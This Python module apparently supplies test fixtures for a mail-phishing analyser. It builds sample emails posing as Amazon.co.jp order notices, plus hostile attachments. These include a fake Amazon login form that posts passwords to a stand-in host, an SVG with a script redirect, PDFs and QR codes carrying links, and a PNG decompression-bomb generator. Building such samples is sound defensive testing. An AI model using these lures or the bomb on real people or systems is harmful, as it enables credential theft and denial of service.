"""Mails with attachments, built in code: HTML and SVG documents, PDFs, QR code images,
decompression bombs — and the mail around them, signed by Amazon or not."""

from __future__ import annotations

import io
import struct
import zlib
from dataclasses import dataclass
from email.message import EmailMessage
from email.policy import SMTP

import segno
from authkit import Key, amazon_dns, rsa_key, sign
from pypdf import PdfWriter
from pypdf.annotations import Link as PdfLink

from honmono.core.model import Report
from honmono.core.settings import Settings
from honmono.engine import analyse
from honmono.report.render import render_report

AMAZON_FROM = '"Amazon.co.jp" <order-update@amazon.co.jp>'
SIGNED_HEADERS = [b"from", b"to", b"subject", b"date", b"message-id", b"mime-version",
                  b"content-type"]


@dataclass(frozen=True)
class File:
    data: bytes
    ctype: str  # the declared Content-Type, true or not
    name: str = ""
    cid: str = ""  # an inline part referenced from the HTML body

    @property
    def inline(self) -> bool:
        return bool(self.cid)


def mail(files: list[File], *, text: str = "ご注文ありがとうございます。",
         html: str | None = None, from_: str = AMAZON_FROM,
         subject: str = "Amazon.co.jp ご注文の確認") -> bytes:
    msg = EmailMessage(policy=SMTP)
    msg["From"] = from_
    msg["To"] = "taro@example.jp"
    msg["Subject"] = subject
    msg["Date"] = "Mon, 03 Nov 2025 00:56:00 +0000"
    msg["Message-ID"] = "<0100019a-attach@email.amazonses.com>"
    msg.set_content(text, charset="utf-8")
    if html is not None:
        msg.add_alternative(html, subtype="html", charset="utf-8")
    for f in files:
        maintype, _, subtype = f.ctype.partition("/")
        if f.inline:
            body = msg.get_payload()[-1] if html is not None else msg
            body.add_related(f.data, maintype=maintype, subtype=subtype, cid=f"<{f.cid}>",
                             filename=f.name or None, disposition="inline")
        else:
            msg.add_attachment(f.data, maintype=maintype, subtype=subtype,
                               filename=f.name or None)
    return msg.as_bytes()


def signed(raw: bytes, key: Key | None = None) -> bytes:
    return sign(raw, key=key or rsa_key(2048), include=SIGNED_HEADERS)


def check(raw: bytes, *, resolver: object | None = None) -> Report:
    settings = Settings(offline=resolver is None, names=("田中太郎",),
                        addresses=("taro@example.jp",))
    report = analyse(raw, settings, resolver=resolver)  # type: ignore[arg-type]
    # Every sentence the check named exists in both languages, with all its values.
    for lang in ("ja", "en"):
        render_report(report, lang)
    return report


def check_signed(raw: bytes) -> Report:
    key = rsa_key(2048)
    return check(signed(raw, key), resolver=amazon_dns(key=key))


# ------------------------------------------------------------------------- documents

LOGIN_FORM_HTML = (
    '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Amazon サインイン</title></head>'
    '<body><h1>アカウントの確認</h1><form method="post" action="https://amaz-verify.example/'
    'login.php"><input name="email"><input type="password" name="pw">'
    '<button>ログイン</button></form></body></html>')

SVG_REDIRECT = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200">'
    '<text x="10" y="20">請求書を表示しています…</text>'
    '<script type="text/javascript"><![CDATA[\n'
    '  window.location.href = "https://invoice-view.example/amazon/?id=1";\n'
    ']]></script></svg>')


def qr_png(payload: str, scale: int = 6) -> bytes:
    buf = io.BytesIO()
    segno.make(payload, error="m").save(buf, kind="png", scale=scale, border=4)
    return buf.getvalue()


def pdf_with_link(url: str, pages: int = 1, link_page: int = 0) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    writer.add_annotation(page_number=link_page,
                          annotation=PdfLink(rect=(50, 700, 300, 740), url=url))
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def invoice_pdf() -> bytes:
    """An ordinary invoice: one page, one link to Amazon's own order page."""
    return pdf_with_link("https://www.amazon.co.jp/gp/your-account/order-history")


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (struct.pack(">I", len(data)) + kind + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))


def bomb_png(side: int = 30_000) -> bytes:
    """A 1-bit PNG of side × side pixels (900 megapixels by default) in a few hundred KB:
    decoding it would take over 100 MB."""
    row = b"\x00" + b"\x00" * ((side + 7) // 8)
    comp = zlib.compressobj(9)
    chunks = [comp.compress(row * 1000) for _ in range(side // 1000)]
    idat = b"".join(chunks) + comp.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat)
            + _png_chunk(b"IEND", b""))
